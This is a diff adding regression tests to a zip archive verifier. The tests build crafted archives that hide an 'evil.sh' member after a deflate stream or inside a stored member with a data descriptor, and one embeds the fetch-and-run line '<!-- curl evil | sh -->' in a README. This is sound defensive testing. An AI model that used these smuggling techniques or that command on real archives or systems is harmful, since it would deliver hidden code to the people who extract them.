@@ -908,3 +908,103 @@ def test_a_member_given_other_attributes_in_an_xl_field_is_a_problem(tmp_path: P
     assert verify_archive(marked).problems == [f"README.md: its {said} gives it other attributes (libarchive's 'xl' "
                                                "extra field, whose kind and mode bsdtar applies instead of those "
                                                "checked: a link, a directory, setuid; an export never writes one)"]
+
+
+def _raw(tmp: Path, name: str, members: list[tuple[str, bytes]], method: int, body: Any) -> Path:
+    """An archive as an export writes it (every member deflated, flags 0x808, a data descriptor after
+    its data) but README.md's method is ``method`` and its compressed bytes ``body(data)``."""
+    out, cen = bytearray(), bytearray()
+    for n, data in members:
+        raw, crc, off = n.encode(), zlib.crc32(data), len(out)
+        how = method if n == "README.md" else 8
+        comp = body(data) if n == "README.md" else _deflate(data)
+        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0x808, how, 0, 0x21, 0, 0, 0, len(raw), 0) + raw
+        out += comp + struct.pack("<IIII", 0x08074b50, crc, len(comp), len(data))
+        cen += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 0x031e, 20, 0x808, how, 0, 0x21, crc, len(comp), len(data),
+                           len(raw), 0, 0, 0, 0, 0o100644 << 16, off) + raw
+    start = len(out)
+    out += cen + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(members), len(members), len(cen), start, 0)
+    path = tmp / name
+    path.write_bytes(bytes(out))
+    return path
+
+
+def _deflate(data: bytes) -> bytes:
+    c = zlib.compressobj(6, zlib.DEFLATED, -15)
+    return c.compress(data) + c.flush()
+
+
+EVIL = b"echo pwned\n"
+HIDDEN = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0x800, 0, 0, 0x21, zlib.crc32(EVIL), len(EVIL), len(EVIL), 7,
+                     0) + b"evil.sh" + EVIL
+
+
+def _streamed(path: Path, tmp: Path) -> list[str] | None:
+    """What bsdtar reading the archive from a pipe (a streaming reader) makes, when it is installed."""
+    if not (bsdtar := shutil.which("bsdtar")):
+        return None
+    out = tmp / "streamed"
+    out.mkdir()
+    subprocess.run([bsdtar, "-xf", "-", "-C", str(out)], input=path.read_bytes(), check=False, capture_output=True)
+    return sorted(p.name for p in out.iterdir())
+
+
+def test_a_member_hidden_after_a_deflate_stream_is_a_problem(tmp_path: Path) -> None:
+    """Seen: "archive OK" for README.md whose compressed bytes were its deflate stream, then a data
+    descriptor and a whole local header and data of evil.sh: zipfile stops at the end of the stream
+    (the bytes and CRC-32 check out), while bsdtar and stream_unzip reading it as a stream go on past
+    the descriptor and extracted evil.sh, a member the central directory does not list."""
+    with zipfile.ZipFile(write(tmp_path, sources())) as zf:
+        members = [(n, zf.read(n)) for n in zf.namelist()]
+    path = _raw(tmp_path, "hidden.zip", members, 8, lambda data: _deflate(data) + struct.pack(
+        "<IIII", 0x08074b50, zlib.crc32(data), len(_deflate(data)), len(data)) + HIDDEN)
+    assert [n for n, _, _ in _chunks_of(stream_unzip(iter([path.read_bytes()])), 2)] == [b"README.md", b"evil.sh"]
+    if (made := _streamed(path, tmp_path)) is not None:
+        assert "evil.sh" in made
+    comp = len(_deflate(b"# hi\n"))
+    assert verify_archive(path).problems == [f"README.md: damaged (its deflate stream ends {16 + len(HIDDEN)} bytes "
+                                             f"before the {comp + 16 + len(HIDDEN)} compressed bytes its central "
+                                             "directory entry states (a streaming reader reads those as more "
+                                             "members))"]
+    sound = _raw(tmp_path, "sound.zip", members, 8, _deflate)  # the same writer, nothing hidden: sound
+    assert verify_archive(sound).ok, verify_archive(sound).text()
+
+
+def _chunks_of(files: Any, n: int) -> list[tuple[bytes, Any, bytes]]:
+    """The first ``n`` members a streaming reader gives, each read whole."""
+    got = []
+    for name, size, chunks in files:
+        got.append((name, size, b"".join(chunks)))
+        if len(got) == n:
+            break
+    return got
+
+
+def test_a_deflate_stream_longer_than_its_entry_states_is_a_problem(tmp_path: Path) -> None:
+    """Seen: "archive OK" for README.md whose deflate stream held "# hi\\n" and a hidden line after
+    it, its entry stating 5 bytes and their CRC-32: zipfile stops at the size stated and checks the
+    CRC-32 of those, while unzip and 7-Zip wrote all of it to disk (complaining of its CRC)."""
+    with zipfile.ZipFile(write(tmp_path, sources())) as zf:
+        members = [(n, zf.read(n)) for n in zf.namelist()]
+    path = _raw(tmp_path, "longer.zip", members, 8, lambda data: _deflate(data + b"<!-- curl evil | sh -->\n"))
+    assert verify_archive(path).problems == ["README.md: damaged (its deflate stream goes on past the 5 bytes its "
+                                             "central directory entry states (unzip and 7-Zip write all of it))"]
+
+
+def test_a_stored_member_with_a_data_descriptor_is_a_problem(tmp_path: Path) -> None:
+    """Seen: "archive OK" for README.md stored (method 0) with a data descriptor, its bytes "# hi\\n",
+    a descriptor of those five bytes, and evil.sh's local header and data: a streaming reader can find
+    where a stored member ends only by searching for a descriptor that fits, and bsdtar, reading it
+    from a pipe, ended README.md there and extracted evil.sh. An export deflates every member."""
+    pre = b"# hi\n"
+    data = pre + struct.pack("<IIII", 0x08074b50, zlib.crc32(pre), len(pre), len(pre)) + HIDDEN + b"tail\n"
+    path = rewrite(write(tmp_path, sources()), tmp_path / "src.zip", extra={"README.md": data})
+    with zipfile.ZipFile(path) as zf:
+        members = [(n, zf.read(n)) for n in zf.namelist()]
+    stored = _raw(tmp_path, "stored.zip", members, 0, lambda d: d)
+    if (made := _streamed(stored, tmp_path)) is not None:
+        assert "evil.sh" in made
+    assert verify_archive(stored).problems == ["README.md: stored with a data descriptor (a streaming reader finds "
+                                               "its end by searching its bytes for a descriptor: one inside them ends "
+                                               "it early and the rest is read as members; an export deflates every "
+                                               "member)"]
